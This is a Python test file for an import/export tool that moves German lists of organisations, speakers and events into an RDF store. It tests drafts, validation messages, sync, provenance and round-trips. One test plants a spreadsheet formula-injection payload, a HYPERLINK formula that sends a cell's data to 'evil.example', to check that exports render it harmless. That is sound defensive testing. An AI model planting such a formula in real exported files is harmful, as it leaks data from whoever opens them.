    meta = ChangeMeta(author="ed1", origin=ORIGIN_FORM, comment="Gründung")
    was = list(example.quads(ox.NamedNode(iri), ox.NamedNode(SCHEMA + "foundingDate")))
    submit(Writer(example), Change(add=[founded], remove=was), meta, review_required=True)
    rows = [HEADER, ["Dachnetzwerk Globales Mitte e.V. (Beispiel)", "Netzwerk", "1999", "", "", ""]]
    result = plan(example, write_csv(tmp_path / "w.csv", rows))
    [row] = result.rows
    assert row.iri == iri and row.action == CHANGED
    assert any("wartet auf Prüfung" in p.de and "ed1" in p.de for p in row.problems)
    assert not result.conforms


def test_a_new_row_named_as_an_entry_a_waiting_draft_creates_is_a_problem(
    example: Store, tmp_path: Path
) -> None:
    """Walk: a list imported again while its first import still waited for review made a
    second draft with every new organisation once more ("…-e-v-2"): the matcher knows the
    store, not the waiting drafts' new entries. Published, each stood twice."""
    rows = [HEADER, ["Grüne Brücke Moabit e.V.", "Verein", "1999", "", "", ""]]
    first = plan(example, write_csv(tmp_path / "a.csv", rows))
    assert first.conforms and first.rows[0].action == CREATED
    submit(Writer(example), first.change, first.meta, review_required=True)
    again = plan(example, write_csv(tmp_path / "b.csv", rows))
    [row] = again.rows
    assert not again.conforms
    assert any("wartet auf Prüfung" in p.de and "waiting for review" in p.en
               for p in row.problems), [p.de for p in row.problems]  # fmt: skip


# ---- one bad row -----------------------------------------------------------------------------


def test_one_bad_row_in_five_thousand_changes_nothing_and_is_named_with_its_rule(
    example_store_path: Path, tmp_path: Path
) -> None:
    # "Art" not required here, so the shape itself speaks about the missing kind.
    mapping = tmp_path / "orgs.toml"
    mapping.write_text(
        ORGS.read_text(encoding="utf-8").replace(
            'values = "kinds"\nsplit = true\nrequired = true', 'values = "kinds"\nsplit = true'
        ),
        encoding="utf-8",
    )
    (tmp_path / "languages.toml").write_text(
        (MAPPINGS / "languages.toml").read_text(encoding="utf-8"), encoding="utf-8"
    )
    rows = [HEADER] + [
        [f"Verein Nummer {i} (Test)", "e.V.", str(1950 + i % 70), "Wedding", "Bildung", "dt."]
        for i in range(5000)
    ]
    rows[3217][1] = ""  # row 3218 of the file: no kind of organisation
    listed = write_csv(tmp_path / "gross.csv", rows)
    before_store = Store.open(example_store_path, read_only=True)
    before = dump(before_store)
    before_store.close()
    done = run_cli("import", str(listed), "--mapping", str(mapping), "--report",
                   str(tmp_path / "r.json"), store=example_store_path)  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "Zeile / row 3218" in done.stderr and "Art der Organisation fehlt" in done.stderr
    report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    bad = [r for r in report["rows"] if r["verdict"] == "violation"]
    assert [(r["row"], r["action"]) for r in bad] == [(3218, "invalid")]
    assert bad[0]["messages_de"][0] == "Art der Organisation fehlt oder ist kein Begriff."
    assert report["counts"]["created"] == 4999 and not report["conforms"]
    with Store.open(example_store_path, read_only=True) as after:
        assert dump(after) == before


def test_a_value_in_many_rows_is_read_once_yet_each_row_keeps_its_problem(
    example: Store, tmp_path: Path
) -> None:
    """Issue 15's speed: a column's distinct cells are read once and the cycle collector rests
    while a file is planned (and runs again after); the report per row stays the same."""
    rows = [HEADER] + [
        [f"Verein Nummer {i}", "e.V.", "1999", "Wedding", "Bildung",
         "Klingonisch" if i % 2 else "Deutsch"]
        for i in range(6)
    ]  # fmt: skip
    listed = write_csv(tmp_path / "lang.csv", rows)
    assert gc.isenabled()
    collecting: list[bool] = []
    result = plan(example, listed, progress=lambda done, total: collecting.append(gc.isenabled()))
    assert collecting and not any(collecting) and gc.isenabled()
    bad = [r for r in result.rows if r.problems]
    assert [r.row for r in bad] == [3, 5, 7]
    for r in bad:
        assert any("Sprachen" in p.de and "Klingonisch" in p.de for p in r.problems)
    assert not result.conforms


# ---- idempotence, sync, provenance ------------------------------------------------------------


def test_the_same_file_twice_changes_nothing_and_an_updated_one_only_its_rows(
    example: Store, tmp_path: Path
) -> None:
    rows = [
        HEADER,
        ["Kiezladen Eins (Test)", "Initiative", "2001", "Wedding", "Bildung", "Deutsch"],
        ["Kiezladen Zwei (Test)", "Initiative", "2002", "Moabit", "Kultur", "Deutsch"],
        ["Kiezladen Drei (Test)", "Initiative", "2003", "Mitte", "Klima", "Deutsch"],
    ]
    first = write_csv(tmp_path / "kiez.csv", rows)
    writer = Writer(example)
    planned = plan(example, first)
    assert [r.action for r in planned.rows] == [CREATED] * 3
    detail = planned.meta.detail
    assert planned.meta.origin == "import" and detail["files"][0]["name"] == "kiez.csv"
    assert len(detail["files"][0]["sha256"]) == 64 and detail["rows"] == {"created": "2-4"}
    done = submit(writer, planned.change, planned.meta, review_required=False)
    record = writer.history.get(done.change_id)  # type: ignore[union-attr]
    assert record.origin == "import"

    again = plan(example, first)
    assert [r.action for r in again.rows] == [UNCHANGED] * 3
    assert not again.change.add and not again.change.remove

    rows[2][2] = "2012"  # Zwei: another founding year
    del rows[3]  # Drei left out
    rows.append(["Kiezladen Vier (Test)", "Initiative", "2004", "Wedding", "Jugend", "Deutsch"])
    updated = write_csv(tmp_path / "kiez.csv", rows)
    later = plan(example, updated)
    assert [(r.name, r.action) for r in later.rows] == [
        ("Kiezladen Eins (Test)", UNCHANGED),
        ("Kiezladen Zwei (Test)", CHANGED),
        ("Kiezladen Vier (Test)", CREATED),
    ]
    zwei = later.rows[1]
    assert zwei.properties == ["schema:foundingDate"] and (zwei.added, zwei.removed) == (1, 1)
    drei = next(q.subject.value for q in planned.change.add if "drei" in q.subject.value)
    assert not any(q.subject.value == drei for q in later.change.remove)  # no --sync

    # Named by its German name though an English one is found first (walk: "Org 1776").
    graph = next(example.quads(ox.NamedNode(drei), ox.NamedNode(SKOS + "prefLabel"))).graph_name
    english = ox.Literal("Zebra", language="en")  # found before the German one in the engine
    writer.commit(Change(add=[ox.Quad(ox.NamedNode(drei), ox.NamedNode(SKOS + "prefLabel"),
                                      english, graph)]))  # fmt: skip
    synced = plan(example, updated, sync=True)
    gone = [r for r in synced.rows if r.action == DELETED]
    assert [(r.iri, r.name) for r in gone] == [(drei, "Kiezladen Drei (Test)")]
    assert synced.conforms
    submit(writer, synced.change, synced.meta, review_required=False)
    assert not values(example, drei, SKOS + "prefLabel")
    assert values(example, zwei.iri, SCHEMA + "foundingDate") == {"2012"}


def test_a_sync_refused_for_another_entry_says_so_not_to_correct_the_rows(
    example_store_path: Path, tmp_path: Path
) -> None:
    """`import --sync` would delete an organisation another entry points at. The refusal
    named the other entry as a problem of the "Datei / file" and ended "correct every row
    first", though no row was wrong (walk of 2026-12-07): it now names the entry as one, and
    says that the deletions break its rules."""
    rows = [
        HEADER,
        ["Kiezladen Eins (Test)", "Initiative", "2001", "Wedding", "Bildung", "Deutsch"],
        ["Kiezladen Drei (Test)", "Initiative", "2003", "Mitte", "Klima", "Deutsch"],
    ]
    listed = write_csv(tmp_path / "kiez.csv", rows)
    with Store.open(example_store_path) as store:
        planned = plan(store, listed)
        submit(Writer(store), planned.change, planned.meta, review_required=False)
        (drei,) = {q.subject for q in store.quads(None, ox.NamedNode(SKOS + "prefLabel"))
                   if q.object.value == "Kiezladen Drei (Test)"}  # fmt: skip
        # An organisation of the example's graph, which the import's --sync leaves alone.
        eins = next(
            q
            for q in store.quads(None, ox.NamedNode(SKOS + "prefLabel"))
            if "/organisation/" in q.subject.value and "kiezladen" not in q.subject.value
        )
        link = ox.Quad(eins.subject, ox.NamedNode(ORG + "subOrganizationOf"), drei, eins.graph_name)
        Writer(store).commit(Change(add=[link]))
        before = dump(store)
    del rows[2]
    done = run_cli("import", str(write_csv(tmp_path / "kiez.csv", rows)), "--mapping", str(ORGS),
                   "--sync", store=example_store_path)  # fmt: skip
    assert done.returncode == 1
    said = done.stderr
    name = eins.object.value
    assert f"Eintrag „{name}“ <{eins.subject.value}>: „Unterorganisation von“ muss" in said, said
    assert f'entry "{name}" <{eins.subject.value}>: "sub-organisation of" must' in said
    assert "Datei / file" not in said and "correct every row" not in said
    assert "Nothing was stored: the deletions of --sync break the rules named above" in said
    assert "die Löschungen durch --sync verletzen die oben genannten Regeln" in said
    with Store.open(example_store_path, read_only=True) as store:
        assert dump(store) == before


def test_speakers_get_opaque_iris_internal_graphs_and_their_profile(
    example: Store, tmp_path: Path
) -> None:
    listed = LISTS / "referentinnen.csv"
    mapping = MAPPINGS / "referentinnen.toml"
    planned = plan(example, listed, mapping)
    assert planned.conforms, [r.problems for r in planned.rows]
    for row in planned.rows:
        assert row.action == CREATED
        assert "/person/p-" in row.iri and "diallo" not in row.iri.lower()
    graphs = {q.graph_name.value for q in planned.change.add}
    assert graphs == {example.graph_iri("internal/import")}
    profiles = {
        q.object.value
        for q in planned.change.add
        if q.predicate.value == "https://w3id.org/akteursgraph/ontology#hasSpeakerProfile"
    }
    assert len(profiles) == 2 and all("/profile/p-" in p for p in profiles)
    submit(Writer(example), planned.change, planned.meta, review_required=False)
    again = plan(example, listed, mapping)
    assert [r.action for r in again.rows] == [UNCHANGED, UNCHANGED]


def test_events_name_their_organisers_and_an_unknown_one_is_a_problem_of_its_row(
    example: Store, tmp_path: Path
) -> None:
    mapping = MAPPINGS / "veranstaltungen.toml"
    good = plan(example, LISTS / "veranstaltungen.csv", mapping)
    assert good.conforms and [r.action for r in good.rows] == [CREATED, CREATED]
    organisers = {
        q.object.value for q in good.change.add if q.predicate.value == SCHEMA + "organizer"
    }
    assert organisers == {EXORG + "dachnetzwerk-globales-mitte"}  # with and without "e.V."
    rows = [
        ["Titel", "Datum", "Veranstalter"],
        ["Fest (Test)", "30.02.2025", "Gibt es nicht e.V."],
    ]
    bad = plan(example, write_csv(tmp_path / "v.csv", rows), mapping)
    texts = [p.de for p in bad.rows[0].problems]
    assert any(t.startswith("Datum: Den Tag „30.02.2025“ gibt es nicht") for t in texts)
    assert any(
        t.startswith("Veranstalter: „Gibt es nicht e.V.“ ist kein eindeutiger") for t in texts
    )


# ---- the command line and lists back out ---------------------------------------------------------


def test_cli_dry_run_report_and_export_list_round_trip(
    example_store_path: Path, tmp_path: Path
) -> None:
    report = tmp_path / "bericht.csv"
    done = run_cli("import", str(LISTS / "organisationen.csv"), "--mapping", str(ORGS),
                   "--dry-run", "--report", str(report), store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "2 neu / created, 1 geändert / changed" in done.stderr
    with report.open(encoding="utf-8-sig") as fh:
        lines = list(csv.DictReader(fh, delimiter=";"))
    assert [(r["row"], r["action"], r["verdict"]) for r in lines] == [
        ("4", "created", "ok"), ("5", "created", "ok"), ("6", "changed", "ok"),
    ]  # fmt: skip
    assert "Sahel-Brücke Wedding" in lines[1]["duplicates"]  # a near name, shown
    with Store.open(example_store_path, read_only=True) as store:
        assert not list(store.quads(ox.NamedNode(lines[0]["iri"])))  # a dry run wrote nothing

    exported = tmp_path / "organisationen.xlsx"
    done = run_cli("export-list", "--mapping", str(ORGS), "--output", str(exported),
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    sheet = read_sheets(exported)[0]
    assert sheet.rows[0][:3] == ["IRI", "Name", "Name (englisch)"] and len(sheet.rows) > 20
    done = run_cli("import", str(exported), "--mapping", str(ORGS), "--dry-run",
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert " 0 neu / created, 0 geändert / changed" in done.stderr  # the list reads back


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_listed_text_that_looks_like_a_formula_stays_text_and_reads_back(
    example_store_path: Path, tmp_path: Path, suffix: str
) -> None:
    """Exploratory test: a description "=HYPERLINK(…)" was written into the exported XLSX as a
    live formula (XlsxWriter's default) and into the CSV as it was, to run when the office
    opens the list (CWE-1236); read back, the XLSX gave the formula's cached 0, a change.
    Now an XLSX cell is a text cell, a CSV cell gets an apostrophe that the import takes off
    again, and the list reads back unchanged."""
    formula = '=HYPERLINK("http://evil.example/steal?x="&A1,"Klick hier")'
    with Store.open(example_store_path) as store:
        label = next(q for q in store.quads(None, ox.NamedNode(SKOS + "prefLabel"))
                     if "/organisation/" in q.subject.value)  # fmt: skip
        described = [
            q
            for p in (DCTERMS + "description", SKOS + "altLabel")
            for q in store.quads(label.subject, ox.NamedNode(p))
            if q.object.language == "de"
        ]  # the list has one of each in German
        Writer(store).commit(Change(remove=described, add=[
            ox.Quad(label.subject, ox.NamedNode(DCTERMS + "description"),
                    ox.Literal(formula, language="de"), label.graph_name),
            ox.Quad(label.subject, ox.NamedNode(SKOS + "altLabel"),
                    ox.Literal("+SUM(1)", language="de"), label.graph_name),
        ]))  # fmt: skip
    exported = tmp_path / f"organisationen{suffix}"
    done = run_cli("export-list", "--mapping", str(ORGS), "--output", str(exported),
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    if suffix == ".xlsx":
        with zipfile.ZipFile(exported) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and 't="inlineStr"><is><t>=HYPERLINK(' in sheet  # a text
    else:
        text = exported.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and "'+SUM(1)" in text
        assert not any(cell.startswith(("=", "+")) for line in csv.reader(
            text.splitlines(), delimiter=";") for cell in line)  # fmt: skip
    rows = read_sheets(exported)[0].rows
    assert any(formula in row for row in rows)
    assert any(str(c).startswith("+SUM(1)") for row in rows for c in row)
    done = run_cli("import", str(exported), "--mapping", str(ORGS), "--dry-run",
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert " 0 neu / created, 0 geändert / changed" in done.stderr


def test_a_listed_concept_is_named_by_its_label_not_by_a_synonym_lists_may_use(
    example_store_path: Path, tmp_path: Path
) -> None:
    """Exploratory walk: the speakers' list named Central Africa "Kamerun", West Africa
    "Senegal", a talk "Input": the first of the synonyms lists may use. A concept is now
    written by its German label, which the import reads back as it reads the synonyms."""
    import tomllib

    exported = tmp_path / "referentinnen.csv"
    mapping = MAPPINGS / "referentinnen.toml"
    done = run_cli("export-list", "--mapping", str(mapping), "--output", str(exported),
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    rows = read_sheets(exported)[0].rows
    column = rows[0].index("Länderschwerpunkt")
    said = {v.strip() for row in rows[1:] if row[column] for v in str(row[column]).split(",")}
    synonyms = tomllib.loads(mapping.read_text(encoding="utf-8"))["values"]["regions"]["synonyms"]
    countries = {name for names in synonyms.values() for name in names}
    assert said and not said & countries, said & countries
    formats = {v.strip() for row in rows[1:] if row[rows[0].index("Formate")]
               for v in str(row[rows[0].index("Formate")]).split(",")}  # fmt: skip
    assert "Vortrag" in formats and "Input" not in formats
    done = run_cli("import", str(exported), "--mapping", str(mapping), "--dry-run",
                   store=example_store_path)  # fmt: skip
    assert " 0 geändert / changed" in done.stderr  # read back unchanged


def test_columns_the_mapping_does_not_read_and_cells_beyond_the_header_are_said(
    example: Store, tmp_path: Path
) -> None:
    """Exploratory test: a misspelt "Beschreibng" column and an "E-Mail" column were dropped
    without a word, and a row whose description held an unquoted ";" lost its last cell, its
    other cells moved, "created" and nothing else said. Both are said now (a note on the
    file, a warning on the row); neither keeps the list out."""
    listed = tmp_path / "typo.csv"
    listed.write_text(
        "Name;Art;Beschreibng;E-Mail\nKiez A;e.V.;Text;a@b.de\n"
        "Kiez B;e.V.;Kultur; und Sport;SZ;x\n",
        encoding="utf-8",
    )
    result = plan(example, listed)
    assert result.conforms
    assert [n.en for n in result.notes] == [
        "The mapping does not read these columns; they are passed over: Beschreibng, E-Mail. "
        "Is one of them misspelt?"
    ]
    first, second = result.rows
    assert not first.warnings or "more filled cells" not in first.warnings[0].en
    assert any("more filled cells than the header has columns" in w.en for w in second.warnings)
    said = summary(result)
    assert "Hinweis / note: Diese Spalten liest die Zuordnung nicht ein" in said
    assert "Zeile / row 3 (Kiez B): Die Zeile hat mehr gefüllte Zellen" in said


def test_a_report_to_a_missing_folder_is_refused_before_anything_is_saved(
    example_store_path: Path, tmp_path: Path
) -> None:
    """Exploratory test: the draft was saved, then the report failed ("unerwarteter Fehler:
    FileNotFoundError", exit 2), and the office thought nothing had been saved."""
    from akteursgraph.changes import History

    before = len(History.at(example_store_path).recent(1000))
    done = run_cli("import", str(LISTS / "organisationen.csv"), "--mapping", str(ORGS),
                   "--report", str(tmp_path / "fehlt" / "bericht.csv"),
                   store=example_store_path)  # fmt: skip
    assert done.returncode == 2
    assert "The report's folder does not exist or cannot be written" in done.stderr
    assert "unexpected" not in done.stderr and "unerwartet" not in done.stderr
    assert len(History.at(example_store_path).recent(1000)) == before


def _in_a_terminal(store: Path, *args: str) -> tuple[int, str]:
    """`akteursgraph` with its stderr a pseudo-terminal (as when a person watches it) and its
    stdout a pipe; the exit code and all the terminal showed."""
    main, child = os.openpty()
    env = {**os.environ, "COLUMNS": "100"}
    env.pop("AKTEURSGRAPH_STORE", None)
    proc = subprocess.Popen(
        [str(BIN / "akteursgraph"), "--store", str(store), *args],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=child, env=env,
    )  # fmt: skip
    os.close(child)
    shown = bytearray()
    try:
        while True:
            ready, _, _ = select.select([main], [], [], 300)
            assert ready, "no output for 300 s"
            try:
                data = os.read(main, 4096)
            except OSError:  # EIO: the process closed its terminal
                break
            if not data:
                break
            shown += data
        proc.communicate(timeout=60)
    finally:
        os.close(main)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    return proc.returncode, shown.decode("utf-8", errors="replace")


def test_the_progress_bar_runs_to_the_end_in_a_terminal_and_stays_out_of_a_pipe(
    example_store_path: Path, tmp_path: Path
) -> None:
    rows = [HEADER] + [
        [f"Verein Nummer {i} (Test)", "e.V.", str(1950 + i % 70), "Wedding", "Bildung", "dt."]
        for i in range(2000)
    ]
    listed = write_csv(tmp_path / "lang.csv", rows)
    command = ("import", str(listed), "--mapping", str(ORGS), "--dry-run")
    code, shown = _in_a_terminal(example_store_path, *command)
    assert code == 0, shown
    assert "Zeilen / rows" in shown and "100%" in shown, shown
    assert "2000 neu / created" in shown  # the summary follows the bar
    piped = run_cli(*command, store=example_store_path)
    assert piped.returncode == 0, piped.stderr
    assert "2000 neu / created" in piped.stderr
    assert "Zeilen / rows" not in piped.stderr and "%" not in piped.stderr
    # A short list in a terminal: nothing to wait for, no bar.
    code, shown = _in_a_terminal(example_store_path, "import", str(LISTS / "organisationen.csv"),
                                 "--mapping", str(ORGS), "--dry-run")  # fmt: skip
    assert code == 0 and "2 neu / created" in shown, shown
    assert "Zeilen / rows" not in shown and "%" not in shown


def test_export_list_as_csv_holds_the_mappings_columns(store: Store, tmp_path: Path) -> None:
    mapping = load_mapping(ORGS)
    rows = list_rows(store, mapping)
    target = tmp_path / "o.csv"
    write_list(rows, target, mapping.name)
    with target.open(encoding="utf-8-sig") as fh:
        read = list(csv.reader(fh, delimiter=";"))
    assert read[0] == ["IRI", *(c.header for c in mapping.columns if c.type != "id")]
    afghan = next(r for r in read if r[0] == EXORG + "afghanische-frauenwerkstatt-tiergarten")
    column = dict(zip(read[0], afghan, strict=True))
    assert column["Gründung"] == "2012-03-08" and column["Bezirk"] == "Tiergarten"
    assert column["Sprachen"] == "Deutsch, Paschtu, Persisch"  # codes back as the list says them


def test_the_speakers_list_holds_the_people_with_a_speaker_profile(store: Store) -> None:
    """Import walk: the exported speakers' list held every person of the store, historical
    ones (Gustav Nachtigal) included, with the required columns empty, so that the list did
    not read back. Only those with a speaker profile now."""
    mapping = load_mapping(MAPPINGS / "referentinnen.toml")
    rows = list_rows(store, mapping)
    profiled = {q.subject.value for q in store.quads(None, ox.NamedNode(AG + "hasSpeakerProfile"))}
    listed = {r[0] for r in rows[1:]}
    assert listed and listed == profiled
    assert "https://w3id.org/akteursgraph/mitte/person/gustav-nachtigal" not in listed
    themes = rows[0].index("Themen")
    assert all(r[themes] for r in rows[1:])


def test_the_report_as_json_has_one_record_per_row(example: Store, tmp_path: Path) -> None:
    planned = plan(example, LISTS / "organisationen.csv")
    target = tmp_path / "r.json"
    write_report(planned, target)
    document = json.loads(target.read_text(encoding="utf-8"))
    assert document["counts"]["created"] == 2 and document["conforms"] is True
    assert [r["row"] for r in document["rows"]] == [4, 5, 6]
    with pytest.raises(UsageError):
        write_report(planned, tmp_path / "r.txt")


def test_an_import_while_serving_goes_through_the_server_as_one_draft(
    example_store_template: Path, tmp_path: Path
) -> None:
    from akteursgraph.bench.server import serving

    from .conftest import copy_store

    store = copy_store(example_store_template, tmp_path)
    with serving(store) as (_proc, _url):
        done = run_cli("import", str(LISTS / "organisationen.csv"), "--mapping", str(ORGS),
                       "--agent", "office", store=store)  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert "goes there" in done.stderr and "saved as draft" in done.stderr
        drafts = run_cli("drafts", store=store)
        assert drafts.returncode == 0, drafts.stderr
        [line] = [x for x in drafts.stdout.splitlines() if "[import]" in x]
        assert "office" in line and "+28 -1" in line
